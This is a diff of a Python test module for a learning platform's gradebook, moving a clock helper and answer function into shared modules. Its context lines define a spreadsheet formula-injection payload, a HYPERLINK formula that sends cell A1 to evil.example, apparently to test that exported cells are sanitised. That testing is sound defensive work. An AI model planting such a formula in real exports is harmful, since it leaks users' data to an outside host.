@@ -14,33 +14,16 @@ from mesolearn.cohorts.gradebook import COLUMNS, safe_cell
 from mesolearn.content import load_course
 from mesolearn.quiz.attempts import Attempts
 from mesolearn.storage import Database
+from tests.conftest import Clock
+from mesolearn.quiz.grading import correct_response
 
 ROOT = Path(__file__).resolve().parents[1]
 T0 = datetime(2030, 3, 1, 9, 0, 0)
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 
-class Clock:
-    def __init__(self, now: datetime = T0):
-        self.now = now
-
-    def __call__(self) -> datetime:
-        return self.now
 
 
-@pytest.fixture(scope="module")
-def course():
-    return load_course(ROOT)
-
-
-def correct_response(q):
-    if q.type in ("single_choice", "true_false", "numeric"):
-        return q.answer
-    if q.type == "multiple_response":
-        return list(q.answers)
-    if q.type == "matching":
-        return list(range(len(q.pairs)))
-    return list(range(len(q.items)))
 
 
 def take(attempts, user_id, quiz_id, n_correct, seed=1):
@@ -61,7 +44,7 @@ def scenario(tmp_path, course):
     exam due in a week.
     """
     db = Database(f"sqlite:///{tmp_path}/t.db")
-    clock = Clock()
+    clock = Clock(T0)
     accounts = Accounts(db, clock)
     cohorts = Cohorts(db, accounts, clock, course=course)
     teacher = accounts.create_user("teacher", "Teacher", "teacher-pass", "instructor")
